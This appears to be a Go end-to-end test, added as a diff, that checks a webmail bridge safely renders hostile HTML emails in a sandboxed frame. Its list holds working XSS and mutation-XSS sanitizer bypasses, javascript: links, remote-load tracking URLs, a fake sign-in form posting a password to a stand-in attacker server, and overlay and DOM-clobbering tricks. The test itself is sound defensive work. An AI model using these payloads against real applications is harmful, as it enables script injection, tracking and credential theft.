@@ -1,0 +1,97 @@
+package e2e_test
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/hearthmail/hearthmail/bridge/e2e"
+)
+
+// hostile is HTML that wants to run, to load, to leave its frame or to look like
+// the app. EVIL stands for a server that must never be asked for anything.
+var hostile = []string{
+	`<script>top.pwned=1;parent.pwned=1</script>`,
+	`<img src=x onerror="top.pwned=1">`,
+	`<svg onload="top.pwned=1"><script>top.pwned=1</script></svg>`,
+	`<svg><style><img src=x onerror=top.pwned=1></style></svg>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1>`,
+	`<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>`,
+	`<template><img src=x onerror=top.pwned=1></template>`,
+	`<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="javascript:top.pwned=1"></iframe>`,
+	`<object data="EVIL/object"></object><embed src="EVIL/embed">`,
+	`<a href="javascript:top.pwned=1" id="click">click</a><a href="data:text/html,<script>top.pwned=1</script>">data</a>`,
+	`<a href="//EVILHOST/relative">scheme</a><a href="/auth/signout">local</a>`,
+	`<base href="EVIL/base/"><img src="relative.png"><link rel="stylesheet" href="EVIL/link.css"><link rel="prefetch" href="EVIL/prefetch">`,
+	`<meta http-equiv="refresh" content="0;url=EVIL/refresh"><meta http-equiv="Content-Security-Policy" content="img-src *">`,
+	`<img src="EVIL/pixel.gif"><img srcset="EVIL/srcset 2x"><picture><source srcset="EVIL/source"><img></picture>`,
+	`<img src="//EVILHOST/noscheme"><img src="\\EVILHOST\back"><img src="&#104;ttp://EVILHOST/entity">`,
+	`<body background="EVIL/background"><table background="EVIL/table"><tr><td background="EVIL/td">x</td></tr></table>`,
+	`<div style="background:url(EVIL/style)">x</div><div style="background:u\72l(EVIL/escaped)">x</div>`,
+	`<div style="--a:url(EVIL/var);background:var(--a)">x</div><div style="background:image-set('EVIL/set' 1x)">x</div>`,
+	`<style>@import "EVIL/import";@font-face{font-family:f;src:url(EVIL/font)}body{font-family:f;background:url("EVIL/sheet")}</style>`,
+	`<style>li{list-style:url(EVIL/list)}</style><ul><li>x</ul><style>@media all{p{cursor:url(EVIL/cursor),auto}}</style>`,
+	`<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio>`,
+	`<form action="EVIL/form" method="post"><input name="password" autofocus><button>Sign in</button></form>`,
+	`<div style="position:fixed;inset:0;z-index:999999;background:red" id="overlay">gotcha</div>`,
+	`<div style="position:absolute;top:-2000px;left:0;width:100%;height:9999px">over</div>`,
+	`<img name="documentElement"><img name="body"><a id="contentDocument">x</a>`,
+	`<p id="signin" class="row toast" contenteditable tabindex="0" accesskey="s">mine</p>`,
+}
+
+// TestHostileMail opens one message after the other. Nothing of it runs, nothing is
+// asked of the other server, and the app is still there after each.
+func TestHostileMail(t *testing.T) {
+	var asked atomic.Int64
+	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		asked.Add(1)
+		t.Errorf("the other server was asked for %s", r.URL.Path)
+	}))
+	defer evil.Close()
+	mail := e2e.StartProvider(t)
+	for i, html := range hostile {
+		html = strings.ReplaceAll(strings.ReplaceAll(html, "EVILHOST", strings.TrimPrefix(evil.URL, "http://")), "EVIL", evil.URL)
+		raw := letter("Mallory <mallory@hearth.test>", "ada@hearth.test", fmt.Sprintf("Trap %02d.", i), "<html><body>"+html+"<p>the end</p></body></html>")
+		mail.Deliver(t, "ada", "INBOX", []byte(strings.Replace(string(raw), "text/plain", "text/html", 1)))
+	}
+	p := e2e.StartBrowser(t).Open(t, mail.Bridge(t).URL)
+	signIn(p, "ada")
+	for i := range hostile {
+		subject := fmt.Sprintf("Trap %02d.", i)
+		p.Fill("searchbox", "Search mail", "subject:\""+subject+"\"")
+		p.Press("\r")
+		p.Click("row", "~"+subject)
+		p.Wait("article", subject)
+		p.Wait("Iframe", "Message body")
+		p.Eval(`new Promise((done) => setTimeout(done, 100))`)
+		inside := p.Eval(`(() => {
+			const frame = document.querySelector("iframe.mail-frame"), doc = frame.contentDocument;
+			if (!doc || !doc.querySelector("body").textContent.includes("the end")) return "not shown";
+			const bad = doc.querySelectorAll("script,iframe,object,embed,form,input,link,base[href],svg,math,video,audio,meta[http-equiv=refresh]");
+			if (bad.length) return bad[0].outerHTML;
+			for (const e of doc.querySelectorAll("*")) {
+				if (["fixed", "absolute", "sticky"].includes(getComputedStyle(e).position)) return e.outerHTML;
+				for (const a of e.attributes) if (/^on/i.test(a.name)) return e.outerHTML;
+				if (e.href && !/^(https?|mailto|tel):/.test(e.href)) return e.outerHTML;
+				if (e.tagName === "A" && e.hasAttribute("href") && !/^(https?:\/\/|mailto:|tel:)/.test(e.getAttribute("href"))) return e.outerHTML;
+			}
+			return frame.sandbox.contains("allow-scripts") ? "scripts allowed" : "";
+		})()`)
+		if inside != "" {
+			t.Errorf("%s: %s\n%s", subject, inside, hostile[i])
+		}
+		if got := p.Eval("window.pwned"); got != "undefined" {
+			t.Fatalf("%s ran a script", subject)
+		}
+	}
+	if asked.Load() > 0 {
+		t.Errorf("%d requests left", asked.Load())
+	}
+	if thrown := p.Thrown(); thrown != "" {
+		t.Error(thrown)
+	}
+}
